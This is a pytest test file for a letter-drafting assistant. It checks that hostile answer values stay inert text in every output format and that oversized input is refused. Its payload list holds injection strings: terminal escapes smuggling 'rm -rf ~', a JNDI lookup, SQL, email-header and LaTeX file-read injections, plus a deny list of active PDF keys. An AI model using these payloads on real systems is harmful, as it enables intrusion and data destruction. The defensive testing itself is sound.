"""Words that would like to be code go through every real letter, from the file of answers to each format, and come out as words (T10)."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import lru_cache
from itertools import islice
from pathlib import Path
from typing import Any

import pikepdf
import pytest

from assistant.cli import main
from assistant.formats import format_named
from assistant.guide import Desk
from assistant.i18n import translator, voice
from assistant.knowledge import Knowledge, open_knowledge
from assistant.letters import Templates, read_fill
from assistant.model import Document, InputError, LetterField
from assistant.text import clean, clean_line
from tests.conftest import TODAY, TOP
from tests.e2e.clients import LETTERS, answers, fill_file, free_fields
from tests.formats.helpers import EXTRACT, parse_html, parse_xml, squeeze
from tests.formats.test_hostile import PAYLOADS

MORE = (
    "\r\n.\r\nQUIT\r\nMAIL FROM:<a@b.example>", "END:VCARD\r\nBEGIN:VCARD", "\x1b]0;title\x07\x1b[2J\x1b[3J", "\x1bP+q544e\x1b\\",
    "\x1b[>4;2m\x1b[201~rm -rf ~\r", "{name} {day} {0} {{x}}", "{r.__init__.__globals__[SECRET]} {n:>100000000}",
    "- a\n- b\n\n# c", "&#x1b;]52;c;aGk=&#7;", "a\u2028b\u2029c\x85d", "\ufff9a\ufffab\ufffb \u00ad", "＝cmd|＋1", "${jndi:ldap://x.example/a}",
    "'; DROP TABLE letters; --", "%0d%0aBcc:%20x@y.example", "javascript:alert(1)", "\\input{/etc/passwd}", "…" * 50,
)  # fmt: skip
HOSTILE = tuple(one for one in PAYLOADS + MORE if "\ud800" not in one)
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u206f\ufeff\ufff9-\ufffb\ud800-\udfff\U000e0000-\U000e007f]"
)
QUICK = ("text", "markdown", "html", "docx", "eml")
HEADERS = [b"X-Unsent", b"Date", b"To", b"Subject", b"Content-Type", b"Content-Transfer-Encoding", b"MIME-Version"]


@lru_cache(maxsize=1)
def knowledge_here() -> Knowledge:
    return open_knowledge(TOP / "content", TOP / "templates")


@lru_cache(maxsize=1)
def desk_here() -> Desk:
    return Desk(knowledge_here(), Templates(TOP / "templates" / "letters"), TODAY)


@dataclass(frozen=True)
class Planted:
    """A letter with payloads in it, and the lines that must be read in every format."""

    document: Document
    wanted: tuple[str, ...]


def lines_of(payload: str) -> list[str]:
    return [squeeze(clean_line(line)) for line in clean(payload).split("\n")]


def from_file(letter: str, given: Mapping[str, Any]) -> Document:
    """The letter from a file of answers on."""
    record = knowledge_here().letters[letter]
    english = translator("en")
    fill = read_fill(fill_file(record, given), "answers.yaml", record)
    form = desk_here().form(letter, fill.answers, english)
    assert form.filled.ready, [one.say(english) for one in form.filled.problems]
    draft = desk_here().draft(letter, fill.answers, english)
    return desk_here().letter(draft, draft.letter.filing[0])


@lru_cache(maxsize=64)
def shown(letter: str) -> frozenset[tuple[str, int]]:
    """The places where a letter, as these answers make it, shows what a person wrote: field and line."""
    record = knowledge_here().letters[letter]
    given = answers(record, lambda field, at: f"Wort {field.id.replace('_', '')} {at} Ende")
    text = squeeze(EXTRACT["text"](format_named("text").write(from_file(letter, given))))
    free = {field.id for field in free_fields(record, given)}
    return frozenset(
        (field.id, at) for field in record.fields if field.id in free for at in range(4)
        if squeeze(f"Wort {field.id.replace('_', '')} {at} Ende") in text
    )  # fmt: skip


def planted(letter: str) -> Iterator[Planted]:
    """The letter again and again, until every payload stood in one of its places."""
    left = iter(HOSTILE)
    record = knowledge_here().letters[letter]
    places = len(shown(letter))
    assert places, letter
    while batch := list(islice(left, places)):
        waiting = iter(batch)
        wanted: list[str] = []

        def words(field: LetterField, at: int, waiting: Iterator[str] = waiting, wanted: list[str] = wanted) -> str:
            payload = next(waiting, None) if (field.id, at) in shown(letter) else None
            if payload is None:
                return "harmless"
            cut = payload[: field.max_length]
            wanted += lines_of(cut)
            return cut

        yield Planted(from_file(letter, answers(record, words)), tuple(wanted))


@pytest.mark.parametrize("letter", LETTERS)
def test_payloads_come_out_as_text(letter: str) -> None:
    for one in planted(letter):
        for name in QUICK:
            data = format_named(name).write(one.document)
            got = squeeze(EXTRACT[name](data))
            assert [line for line in one.wanted if line not in got] == [], name
            if name != "docx":
                assert not HIDDEN.search(data.decode().replace("\r\n", "\n")), name
            assert not HIDDEN.search(got), name


@pytest.mark.parametrize("letter", LETTERS)
def test_no_format_gets_a_part_from_them(letter: str) -> None:
    """No element, no attribute, no header that the letter with harmless words does not have as well."""
    tame = from_file(letter, answers(knowledge_here().letters[letter], lambda _field, _at: "harmless\n\nwords"))
    page = parse_html(format_named("html").write(tame))
    parts = elements(format_named("docx").write(tame))
    headers = names(format_named("eml").write(tame))
    assert [one for one in HEADERS if one in headers] == headers
    for one in planted(letter):
        got = parse_html(format_named("html").write(one.document))
        assert set(got.tags) <= set(page.tags)
        assert got.names <= page.names
        assert elements(format_named("docx").write(one.document)) <= parts
        assert names(format_named("eml").write(one.document)) == headers


def elements(data: bytes) -> set[str]:
    """File, element and attributes of everything in a DOCX; not well formed is an error here."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {
            f"{name} {element.tag} {sorted(element.keys())}"
            for name in archive.namelist() if not name.endswith("/") for element in parse_xml(archive.read(name)).iter()
        }  # fmt: skip


def names(data: bytes) -> list[bytes]:
    head, gap, _ = data.partition(b"\r\n\r\n")
    assert gap
    return re.findall(rb"(?m)^([A-Za-z-]+):", head)


@pytest.mark.parametrize("letter", LETTERS)
def test_a_pdf_holds_words_and_can_do_nothing(letter: str) -> None:
    one = next(planted(letter))
    data = format_named("pdf").write(one.document)
    got = squeeze(EXTRACT["pdf"](data))
    assert [line for line in one.wanted if line not in got] == []
    inert(data)


def inert(data: bytes) -> None:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        keys = {str(key) for found in pdf.objects if isinstance(found, pikepdf.Dictionary) for key in found.keys()}  # noqa: SIM118 - not a dict
        assert not keys & {
            "/JS",
            "/JavaScript",
            "/URI",
            "/Launch",
            "/EF",
            "/EmbeddedFiles",
            "/AA",
            "/OpenAction",
            "/AcroForm",
            "/SubmitForm",
        }
        assert not any("/Annots" in page for page in pdf.pages)


@pytest.mark.parametrize("letter", ["cn-ltr-spc-correction", "de-l-agency-de"])
def test_every_payload_in_a_pdf(letter: str) -> None:
    for one in planted(letter):
        data = format_named("pdf").write(one.document)
        got = squeeze(EXTRACT["pdf"](data))
        assert [line for line in one.wanted if line not in got] == []
        inert(data)


@pytest.mark.parametrize("letter", LETTERS)
def test_a_reading_aid_holds_them_as_text_too(letter: str) -> None:
    record = knowledge_here().letters[letter]
    payload = "</p>{{ 7*7 }}#import \x1b]52;c;aGk=\x07 **a**"
    fill = read_fill(fill_file(record, answers(record, lambda _field, _at: payload)), "f", record)
    draft = desk_here().draft(letter, fill.answers, translator("en"))
    filing = draft.letter.filing[0]
    aid = desk_here().aid(
        draft,
        voice(filing) if filing == "en" else plain(filing),
        translator("en") if filing != "en" else plain("de"),
    )
    for name in ("text", "markdown", "html", "docx"):
        got = squeeze(EXTRACT[name](format_named(name).write(aid)))
        assert squeeze(clean_line(payload)) in got
        assert not HIDDEN.search(got)


@lru_cache(maxsize=4)
def plain(locale: str) -> Any:
    return voice(locale)


@pytest.mark.parametrize("payload", [*HOSTILE, "\ud800lone"], ids=range(len(HOSTILE) + 1))
def test_a_hostile_answer_to_any_question_is_told_harmlessly(
    payload: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """In a day, a choice, an address: refused or taken, but what is said of it is safe for a terminal."""
    letter = "cn-ltr-spc-correction"
    record = knowledge_here().letters[letter]
    path = tmp_path / "answers.yaml"
    path.write_text(fill_file(record, dict.fromkeys(answers(record), payload)), encoding="utf-8")
    assert main(["--locale", "en", "--as-of", "2026-11-22", "letter", letter, "--fill", str(path)]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err
    assert not HIDDEN.search(said.err)
    for key in ("letter", "ground"):
        path.write_text(f'{key}: "{"".join(f"{chr(92)}U{ord(sign):08x}" for sign in payload)}"\n', encoding="utf-8")
        assert main(["--locale", "en", "letter", letter, "--fill", str(path)]) == 2
        assert not HIDDEN.search(capsys.readouterr().err)


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_words_on_the_command_line(payload: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Search, names, days, places, languages, file names: told harmlessly, with our own exit codes."""
    for arguments in (
        ("find", "--", payload), ("show", "--", payload), ("plan", "--", payload), ("uses", "--", payload), ("directory", "find", "--", payload),
        ("due", "eu-gdpr-access", "--event", payload), ("due", "eu-gdpr-access", "--event", f"request_received={payload}"),
        ("due", "eu-gdpr-access", "--event", f"{payload}=2026-11-06"), ("due", "eu-gdpr-access", "--place", payload),
        ("--locale", payload, "locale", "list"), ("--as-of", payload, "locale", "list"),
        ("letter", "eu-l-access", "--fill", payload), ("letter", "eu-l-access", "--blank", "--format", payload), (payload,),
        ("find", f"--{payload}"),
    ):  # fmt: skip
        code = main(list(arguments))
        said = capsys.readouterr()
        assert code in (0, 1, 2), arguments
        assert not HIDDEN.search(said.out), arguments
        assert not HIDDEN.search(said.err), arguments
        assert "Traceback" not in said.err


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("x" * 1_000_000, "It can have 1000000 bytes"), ("漢" * 400_000, "It can have 1000000 bytes"), ("x" * 900_000, "has 900000 characters"),
        ("x " * 40_000, "characters"), ("(" * 900_000, "characters"), ("\\n" * 400_000, "has 400000 characters"), ("- " * 400_000, "characters"), ("[" * 900_000, "characters"),
    ],
    ids=["a million", "Han", "nearly", "words", "brackets", "line breaks", "items", "lists"],
)  # fmt: skip
def test_a_million_characters_are_refused_in_two_seconds(
    text: str, told: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    letter = "cn-ltr-spc-correction"
    record = knowledge_here().letters[letter]
    head = fill_file(record, {name: one for name, one in answers(record).items() if name != "facts"})
    path = tmp_path / "answers.yaml"
    path.write_text(f'{head}facts: "{text}"\n', encoding="utf-8")
    began = time.perf_counter()
    code = main(["--locale", "en", "letter", letter, "--fill", str(path)])
    assert time.perf_counter() - began < 2
    said = capsys.readouterr()
    assert code == 2
    assert told in said.err
    assert len(said.err) < 2_000


def test_a_million_brackets_outside_an_answer(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "answers.yaml"
    for text in (
        "[" * 900_000,
        "{a: " * 200_000,
        "- " * 400_000,
        "a:\n" * 300_000,
        "&a " * 300_000,
        "? " * 400_000,
        "\n" * 900_000,
        "# x\n" * 200_000,
        "'" * 900_000,
    ):
        path.write_text(text, encoding="utf-8")
        began = time.perf_counter()
        assert main(["--locale", "en", "letter", "eu-l-access", "--fill", str(path)]) == 2
        assert time.perf_counter() - began < 2, text[:6]
        assert len(capsys.readouterr().err) < 1_000


def test_the_lone_half_of_a_character_is_refused_with_its_line() -> None:
    record = knowledge_here().letters["eu-l-access"]
    field = record.fields[0].id
    with pytest.raises(InputError) as caught:
        read_fill(f'letter: eu-l-access\n{field}: "\\ud800"\n', "f", record)
    assert caught.value.values["line"] == 2
